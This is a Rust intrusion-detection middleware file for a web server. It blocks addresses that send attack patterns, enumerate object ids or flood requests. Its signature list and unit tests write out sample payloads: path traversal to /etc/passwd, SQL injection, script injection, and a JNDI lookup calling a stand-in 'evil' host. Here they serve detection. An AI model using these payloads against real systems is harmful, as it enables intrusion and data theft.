//! Intrusion detection (AUD2): detectors over what the server sees anyway, each blocking the source it
//! caught for a while and recording a security event (`intrusion_blocked`, with the detector's name).
//!
//! - **attack patterns**: path traversal, SQL injection, script injection and template/JNDI lookups in
//!   the path or query (percent-decoded twice, lowercased), counted per address: a few are forgiven
//!   (a scanner sends dozens);
//! - **id enumeration**: a burst of not-found or forbidden answers on workspace pages and server
//!   functions, per address: someone trying other people's object ids;
//! - **floods**: more requests in ten seconds than any person's browser makes.
//!
//! The source is the client address as the rate limits count it (IPv4, IPv6 by /64, behind trusted
//! proxies the forwarded one), never a workspace or an account: one attacker cannot get a whole
//! workspace's users blocked. Bodies (server-function forms) are not scanned: they reach only typed,
//! parameterised code. Blocks live in this server's memory; with several servers each blocks on its own.

use super::rate_limit::address_key;
use super::refusal::refuse;
use app::context::ClientIp;
use app::error::AppError;
use axum::extract::{Request, State};
use axum::middleware::Next;
use axum::response::Response;
use domain::Platform;
use domain::identity::RequestMeta;
use governor::{DefaultKeyedRateLimiter, Quota, RateLimiter};
use http::StatusCode;
use std::net::IpAddr;
use std::num::NonZeroU32;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// The detectors' thresholds: each is what is let through; one more blocks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct IntrusionSettings {
    /// Requests with attack patterns per address in 10 minutes.
    pub suspicious_requests: u32,
    /// Not-found or forbidden answers on workspace pages and server functions per address in a minute.
    pub misses_per_minute: u32,
    /// Requests per address in 10 seconds.
    pub requests_per_10s: u32,
    /// How long a caught address stays blocked.
    pub block_for: Duration,
}

/// Which detector caught a source.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Detector {
    AttackPatterns,
    Enumeration,
    Flood,
}

impl Detector {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::AttackPatterns => "attack_patterns",
            Self::Enumeration => "enumeration",
            Self::Flood => "flood",
        }
    }
}

struct Inner {
    settings: IntrusionSettings,
    patterns: DefaultKeyedRateLimiter<IpAddr>,
    misses: DefaultKeyedRateLimiter<IpAddr>,
    requests: DefaultKeyedRateLimiter<IpAddr>,
    /// Blocked address → until when (a lock, so that racing catches block and record once).
    blocked: std::sync::Mutex<std::collections::HashMap<IpAddr, Instant>>,
    platform: Arc<Platform>,
}

#[derive(Clone)]
pub struct IntrusionDetection(Arc<Inner>);

fn allowance(n: u32, period: Duration) -> Quota {
    let n = NonZeroU32::new(n.max(1)).unwrap_or(NonZeroU32::MIN);
    Quota::with_period(period / n.get()).unwrap_or_else(|| Quota::per_second(n)).allow_burst(n)
}

impl IntrusionDetection {
    pub fn new(settings: IntrusionSettings, platform: Arc<Platform>) -> Self {
        Self(Arc::new(Inner {
            settings,
            patterns: RateLimiter::keyed(allowance(settings.suspicious_requests, Duration::from_secs(600))),
            misses: RateLimiter::keyed(allowance(settings.misses_per_minute, Duration::from_secs(60))),
            requests: RateLimiter::keyed(allowance(settings.requests_per_10s, Duration::from_secs(10))),
            blocked: std::sync::Mutex::default(),
            platform,
        }))
    }

    /// Forgets counters that are full again (on the same timer as the rate limits).
    pub fn forget_idle(&self) {
        for limiter in [&self.0.patterns, &self.0.misses, &self.0.requests] {
            limiter.retain_recent();
            limiter.shrink_to_fit();
        }
    }

    fn blocked_for(&self, key: IpAddr) -> Option<Duration> {
        let blocked = self.0.blocked.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
        blocked.get(&key)?.checked_duration_since(Instant::now())
    }

    /// Blocks `key` and records it, once per block: catches racing each other, or made while blocked,
    /// are not counted again.
    async fn block(&self, key: IpAddr, detector: Detector, user_agent: &str) {
        let block_for = self.0.settings.block_for;
        {
            let mut blocked = self.0.blocked.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
            let now = Instant::now();
            if blocked.get(&key).is_some_and(|until| *until > now) {
                return;
            }
            blocked.retain(|_, until| *until > now);
            blocked.insert(key, now + block_for);
        }
        tracing::warn!(address = %key, detector = detector.as_str(), "intrusion detected; address blocked");
        metrics::counter!("strongroom_intrusion_blocks_total", "detector" => detector.as_str()).increment(1);
        let meta = RequestMeta::new(key, user_agent, None);
        let recorded = self.0.platform.identity().record_intrusion_block(&meta, detector.as_str(), block_for).await;
        if let Err(error) = recorded {
            tracing::error!(%error, "could not record an intrusion block");
        }
    }
}

/// Does the path or query carry an attack pattern? Decoded twice (double encoding), lowercased.
pub fn looks_like_an_attack(path_and_query: &str) -> bool {
    let once = percent_encoding::percent_decode_str(path_and_query).decode_utf8_lossy().replace('+', " ");
    let twice = percent_encoding::percent_decode_str(&once).decode_utf8_lossy().to_lowercase();
    const SIGNS: [&str; 22] = [
        "../",
        "..\\",
        "/etc/passwd",
        "/etc/shadow",
        "win.ini",
        "\0",
        "' or '",
        "' or 1=1",
        "\" or \"",
        " or 1=1",
        "union select",
        "union all select",
        "; drop ",
        "sleep(",
        "benchmark(",
        "'--",
        "<script",
        "javascript:",
        "onerror=",
        "onload=",
        "${jndi:",
        "{{7*7}}",
    ];
    SIGNS.iter().any(|sign| twice.contains(sign))
}

/// Paths whose not-found and forbidden answers are about object ids.
fn names_objects(path: &str) -> bool {
    path.starts_with("/w/")
        || path.starts_with("/rpc/")
        || path.starts_with("/confirmation/")
        || path.starts_with("/mail/unsubscribe")
}

/// The middleware: refuses blocked sources, runs the detectors, blocks what they catch.
pub async fn detect(State(ids): State<IntrusionDetection>, request: Request, next: Next) -> Response {
    let ip = request.extensions().get::<ClientIp>().map_or(IpAddr::from([0, 0, 0, 0]), |ClientIp(ip)| *ip);
    let key = address_key(ip);
    if let Some(left) = ids.blocked_for(key) {
        return blocked(&request, left);
    }
    let path = request.uri().path().to_owned();
    let agent = request.headers().get(http::header::USER_AGENT).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    let health_check = path == "/healthz" || path == "/readyz";
    if !health_check && ids.0.requests.check_key(&key).is_err() {
        ids.block(key, Detector::Flood, &agent).await;
        return blocked(&request, ids.0.settings.block_for);
    }
    let path_and_query = request.uri().path_and_query().map_or(path.as_str(), |pq| pq.as_str()).to_owned();
    if looks_like_an_attack(&path_and_query) && ids.0.patterns.check_key(&key).is_err() {
        ids.block(key, Detector::AttackPatterns, &agent).await;
        return blocked(&request, ids.0.settings.block_for);
    }
    let response = next.run(request).await;
    let missed = matches!(response.status(), StatusCode::NOT_FOUND | StatusCode::FORBIDDEN);
    if missed && names_objects(&path) && ids.0.misses.check_key(&key).is_err() {
        ids.block(key, Detector::Enumeration, &agent).await;
    }
    response
}

fn blocked(request: &Request, left: Duration) -> Response {
    let mut response = refuse(request, StatusCode::FORBIDDEN, AppError::Auth(model::AuthFailure::RateLimited));
    let seconds = left.as_secs().max(1);
    if let Ok(value) = http::HeaderValue::from_str(&seconds.to_string()) {
        response.headers_mut().insert(http::header::RETRY_AFTER, value);
    }
    response
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_patterns_are_seen_through_encoding_and_ordinary_addresses_are_not() {
        for attack in [
            "/w/acme/../../etc/passwd",
            "/pkg/..%2f..%2f..%2fetc%2fpasswd",
            "/pkg/%252e%252e%252fwindows%252fwin.ini",
            "/w/acme/orders?q=%27%20OR%20%271%27%3D%271",
            "/w/acme/orders?q=1+UNION+SELECT+NULL--",
            "/signin?next=%3Cscript%3Ealert(1)%3C/script%3E",
            "/w/acme?x=${jndi:ldap://evil/a}",
        ] {
            assert!(looks_like_an_attack(attack), "{attack}");
        }
        for ordinary in [
            "/w/acme-7f3c2a/orders?after=2026-11-30T10:00:00Z&q=O%27Reilly",
            "/w/acme/sales/0193f1c2-7e2a-7b55-9c1d-1f2e3d4c5b6a",
            "/signin?next=%2Fw%2Facme%2Forders",
            "/pkg/strongroom-5f2a.wasm",
            "/rpc/purchasing/requests/submit",
        ] {
            assert!(!looks_like_an_attack(ordinary), "{ordinary}");
        }
    }
}
